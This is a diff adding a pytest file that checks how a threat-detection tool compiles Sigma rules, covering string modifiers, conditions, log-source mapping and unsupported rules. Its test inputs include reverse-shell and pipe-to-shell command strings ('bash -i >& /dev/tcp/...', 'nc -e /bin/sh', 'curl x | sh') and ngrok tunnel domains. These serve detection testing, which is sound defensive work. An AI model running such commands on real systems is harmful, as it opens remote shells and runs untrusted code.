@@ -1,0 +1,171 @@
+"""Sigma support: the SigmaHQ Linux rules load, and modifier/condition semantics are right."""
+
+from __future__ import annotations
+
+import base64
+import textwrap
+from pathlib import Path
+
+import pytest
+
+from threatseer.hub.rules.ruleset import CompiledRule
+from threatseer.hub.rules.sigma import SigmaUnsupported, compile_sigma
+
+SHARED_SIGMA = Path(__file__).resolve().parents[3] / "shared" / "sigma" / "rules"
+
+
+def sigma(detection: str, category: str = "process_creation", extra: str = "") -> CompiledRule:
+    text = textwrap.dedent("""\
+        title: Test Rule
+        id: 5f7e6a7b-1111-4222-8333-944455556666
+        status: test
+        logsource:
+            product: linux
+            category: {category}
+        detection:
+        {detection}
+        level: high
+        tags:
+            - attack.execution
+            - attack.t1059.004
+        {extra}
+        """).format(category=category, detection=textwrap.indent(textwrap.dedent(detection), "    "),
+                    extra=extra)
+    return compile_sigma(text, "test.yml")
+
+
+def exec_event(cmd: str = "", image: str = "/usr/bin/bash", **extra: object) -> dict:
+    return {"event.action": "exec", "process.command_line": cmd, "process.executable": image,
+            **extra}
+
+
+def test_shared_sigma_rules_load_or_are_reported() -> None:
+    files = sorted(SHARED_SIGMA.rglob("*.yml"))
+    assert len(files) >= 100, f"expected SigmaHQ Linux rules under {SHARED_SIGMA}"
+    loaded, failed = [], []
+    for f in files:
+        try:
+            loaded.append(compile_sigma(f.read_text(), str(f)))
+        except SigmaUnsupported as exc:
+            failed.append((f, str(exc)))
+    assert len(loaded) / len(files) >= 0.95, failed
+    assert all(reason for _, reason in failed)
+
+
+def test_level_tags_and_identity_carry_through() -> None:
+    rule = sigma("selection:\n    Image|endswith: /bash\ncondition: selection")
+    assert rule.engine == "sigma" and rule.score == 60 and rule.name == "Test Rule"
+    assert rule.tags == ("attack.execution", "attack.t1059.004")
+    assert rule.extra["sigma_id"] == "5f7e6a7b-1111-4222-8333-944455556666"
+    assert rule.extra["level"] == "high"
+
+
+@pytest.mark.parametrize(
+    ("selection", "yes", "no"),
+    [
+        ("CommandLine: 'whoami'", "WHOAMI", "whoami -a"),  # equality is case-insensitive
+        ("CommandLine|contains: 'dev/tcp'", "bash -i >& /DEV/TCP/1.2.3.4/1", "bash -i"),
+        ("CommandLine|startswith: 'curl '", "curl http://x", "/usr/bin/curl http://x"),
+        ("CommandLine|endswith: '| sh'", "curl x | sh", "curl x | sh -"),
+        ("CommandLine|contains|all: ['curl', '| sh']", "curl x | sh", "curl x | bash2"),
+        ("CommandLine|contains: ['wget', 'curl']", "wget x", "fetch x"),
+        ("CommandLine|re: '^nc\\s+-e'", "nc -e /bin/sh", "NC -e /bin/sh"),  # re is case-sensitive
+        ("CommandLine|re|i: '^nc\\s+-e'", "NC -e /bin/sh", "ncat -e"),
+        ("CommandLine|cased: 'Whoami'", "Whoami", "whoami"),
+        ("CommandLine: 'py*on -c ?'", "python -c x", "python -c xx"),  # wildcards
+        ("CommandLine|windash|contains: '-enc '", "x /enc abc", "x enc abc"),
+        ("CommandLine|base64|contains: 'secret'",
+         "echo " + base64.b64encode(b"secret").decode(), "echo secret"),
+        ("CommandLine|base64offset|contains: 'http://'",
+         "echo " + base64.b64encode(b"xxhttp://evil").decode(), "echo http://evil"),
+    ],
+)
+def test_string_modifiers(selection: str, yes: str, no: str) -> None:
+    rule = sigma(f"selection:\n    {selection}\ncondition: selection")
+    assert rule.predicate(exec_event(yes)), yes
+    assert not rule.predicate(exec_event(no)), no
+
+
+def test_cidr_numbers_exists_and_null() -> None:
+    net = sigma("selection:\n    DestinationIp|cidr: 10.0.0.0/8\n    DestinationPort: [4444, 5555]\n"
+                "condition: selection", category="network_connection")
+    assert net.predicate({"event.action": "connect", "destination.ip": "10.9.9.9",
+                          "destination.port": 4444})
+    assert not net.predicate({"event.action": "connect", "destination.ip": "11.9.9.9",
+                              "destination.port": 4444})
+    assert not net.predicate({"event.action": "connect", "destination.ip": "10.9.9.9",
+                              "destination.port": 80})
+    ex = sigma("selection:\n    CurrentDirectory|exists: true\ncondition: selection")
+    assert ex.predicate(exec_event(**{"process.working_directory": "/tmp"}))
+    assert not ex.predicate(exec_event())
+    null = sigma("selection:\n    CurrentDirectory: null\ncondition: selection")
+    assert null.predicate(exec_event()) and not null.predicate(
+        exec_event(**{"process.working_directory": "/"}))
+
+
+CONDITION_DETECTION = """\
+selection_a:
+    CommandLine|contains: 'alpha'
+selection_b:
+    CommandLine|contains: 'beta'
+filter:
+    CommandLine|contains: 'gamma'
+condition: {condition}
+"""
+
+
+@pytest.mark.parametrize(
+    ("condition", "truth"),
+    [
+        # commands: "alpha", "beta", "alpha beta", "alpha gamma", "gamma"
+        ("selection_a", [1, 0, 1, 1, 0]),
+        ("1 of selection*", [1, 1, 1, 1, 0]),
+        ("all of selection_*", [0, 0, 1, 0, 0]),
+        ("all of them", [0, 0, 0, 0, 0]),
+        ("1 of them", [1, 1, 1, 1, 1]),
+        ("not filter", [1, 1, 1, 0, 0]),
+        ("selection_a and not filter", [1, 0, 1, 0, 0]),
+        ("1 of selection_* and not filter", [1, 1, 1, 0, 0]),
+        ("(selection_a or filter) and not selection_b", [1, 0, 0, 1, 1]),
+        ("selection_a or selection_b and filter", [1, 0, 1, 1, 0]),
+    ],
+)
+def test_condition_forms(condition: str, truth: list[int]) -> None:
+    rule = sigma(CONDITION_DETECTION.format(condition=condition))
+    cmds = ["alpha", "beta", "alpha beta", "alpha gamma", "gamma"]
+    assert [int(rule.predicate(exec_event(c))) for c in cmds] == truth
+
+
+def test_logsources_map_to_actions() -> None:
+    proc = sigma("selection:\n    Image|endswith: /nc\ncondition: selection")
+    assert proc.predicate({"event.action": "exec", "process.executable": "/bin/nc"})
+    assert not proc.predicate({"event.action": "connect", "process.executable": "/bin/nc"})
+    fe = sigma("selection:\n    TargetFilename|startswith: /etc/cron.d/\ncondition: selection",
+               category="file_event")
+    write = {"event.action": "open", "file.path": "/etc/cron.d/x",
+             "threatseer.open.flags": ["write", "create"]}
+    assert fe.predicate(write)
+    assert not fe.predicate({**write, "threatseer.open.flags": ["read"]})
+    nc = sigma("selection:\n    DestinationHostname|endswith: .ngrok.io\n    Initiated: 'true'\n"
+               "condition: selection", category="network_connection")
+    assert nc.predicate({"event.action": "dns-query", "dns.question.name": "a.tcp.ngrok.io"})
+    assert nc.predicate({"event.action": "connect", "network.direction": "egress",
+                         "destination.domain": "x.ngrok.io"})
+    assert not nc.predicate({"event.action": "dns-query", "dns.question.name": "ngrok.com"})
+
+
+@pytest.mark.parametrize(
+    ("detection", "category", "reason"),
+    [
+        ("selection:\n    Hashes|contains: abc\ncondition: selection", "process_creation",
+         "field 'Hashes' has no ECS mapping"),
+        ("keywords:\n    - 'evil'\ncondition: keywords", "process_creation", "keyword"),
+        ("selection:\n    Image: x\ncondition: selection", "registry_event",
+         "logsource category 'registry_event'"),
+        ("selection:\n    Image|re: '('\ncondition: selection", "process_creation", ""),
+    ],
+)
+def test_unsupported_rules_give_a_reason(detection: str, category: str, reason: str) -> None:
+    with pytest.raises(SigmaUnsupported) as err:
+        sigma(detection, category=category)
+    assert reason in str(err.value) and str(err.value)
